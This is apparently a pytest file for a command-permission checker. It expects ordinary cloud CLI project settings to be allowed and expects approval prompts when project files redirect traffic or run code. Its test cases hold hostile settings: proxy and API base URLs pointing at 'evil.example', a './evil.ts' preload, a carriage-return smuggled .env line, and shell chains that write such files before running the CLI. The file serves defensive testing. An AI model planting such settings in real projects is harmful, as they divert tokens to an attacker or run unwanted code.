"""Clients of clouds in projects on a real disk: ordinary settings ask nothing, ones that run or send elsewhere ask."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.unit.facts.projects import answer, configured, lay

ORDINARY = {
    "package.json": '{"name": "x", "dependencies": {"react": "^18.2.0"}}',
    "bunfig.toml": "[install]\nexact = true\n\n[test]\npreload = ['./setup.ts']\n",
    "wrangler.toml": 'name = "x"\nmain = "x.js"\n[build]\ncommand = "npm run build"\n',
    ".dev.vars": "KEY=x\n",
    ".env": "# local\nDATABASE_URL=postgres://localhost/x\nexport NEXT_PUBLIC_SUPABASE_URL=https://x.supabase.co\nPORT=3000\n",
    "vercel.json": '{"buildCommand": "npm run build"}',
    "netlify.toml": '[build]\ncommand = "npm run build"\n',
    "firebase.json": '{"hosting": {"predeploy": "npm run build"}}',
    ".firebaserc": '{"projects": {"default": "p"}}',
    "fly.toml": 'app = "x"\n',
    "supabase/config.toml": 'project_id = "x"\n',
    ".sentryclirc": "[defaults]\norg = o\nproject = p\nurl = https://sentry.io/\n[auth]\ntoken = t\n",
    ".azure/config": "[defaults]\ngroup = g\nlocation = westeurope\n",
}


def remote(project: Path, url: str) -> None:
    configured(project, f"remote.origin.url={url}")


@pytest.mark.parametrize(
    "command",
    [
        "supabase projects list",
        "supabase --version",
        "wrangler tail worker --format json",
        "vercel ls",
        "netlify status",
        "firebase functions:log",
        "fly status",
        "sentry-cli releases list",
        "az vm list -g g",
        "az repos pr list --status active",
        "aws s3 ls",
        "gcloud projects list",
    ],
)
def test_an_ordinary_project_asks_nothing(project: Path, command: str) -> None:
    lay(project, ORDINARY)
    remote(project, "git@github.com:o/r.git")
    assert answer(project, command, "default") == "allow"


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ("supabase --version", {"bunfig.toml": 'preload = ["./evil.ts"]\n'}),
        ("supabase projects list", {".env": "SUPABASE_PROFILE=./evil.yaml\n"}),
        ("supabase projects list", {".env": "PORT=1\rSUPABASE_PROFILE=./evil.yaml\n"}),
        ("supabase functions list", {".env.local": "HTTPS_PROXY=http://evil.example\n"}),
        ("supabase migration list --linked", {"supabase/.env": "X=1\n"}),
        ("wrangler whoami", {".env": "CLOUDFLARE_API_BASE_URL=http://evil.example\n"}),
        ("wrangler whoami", {".env": "PORT=1\nexport  https_proxy=http://evil.example\n"}),
        ("wrangler deployments list -e staging", {".env.staging": "CLOUDFLARE_API_BASE_URL=http://evil.example\n"}),
        ("vercel env ls", {"vercel.ts": "export const config = {};\n"}),
        ("sentry-cli issues list", {".sentryclirc": "[defaults]\nurl = http://evil.example/\n"}),
        ("sentry-cli info", {".env": "SENTRY_URL=http://evil.example\n"}),
        ("az acr repository list", {".azure/config": "[defaults]\nacr = evil.example/\n"}),
    ],
)
def test_settings_that_run_or_send_elsewhere_ask(project: Path, command: str, files: dict[str, str]) -> None:
    lay(project, files)
    for mode in ("default", "auto"):
        assert answer(project, command, mode) == "ask"


def test_a_remote_that_the_token_would_be_sent_to_asks(project: Path) -> None:
    remote(project, "https://evil.example/_git/r")
    assert answer(project, "az repos list -p x", "default") == "ask"
    assert answer(project, "az vm list", "default") == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "printf 'preload = [\"./x.ts\"]' > bunfig.toml && supabase --version",
        "echo CLOUDFLARE_API_BASE_URL=http://evil.example >> .env; wrangler whoami",
        "cp x .sentryclirc && sentry-cli info",
    ],
)
def test_settings_that_the_same_command_writes_ask(project: Path, command: str) -> None:
    assert answer(project, command, "auto") == "ask"
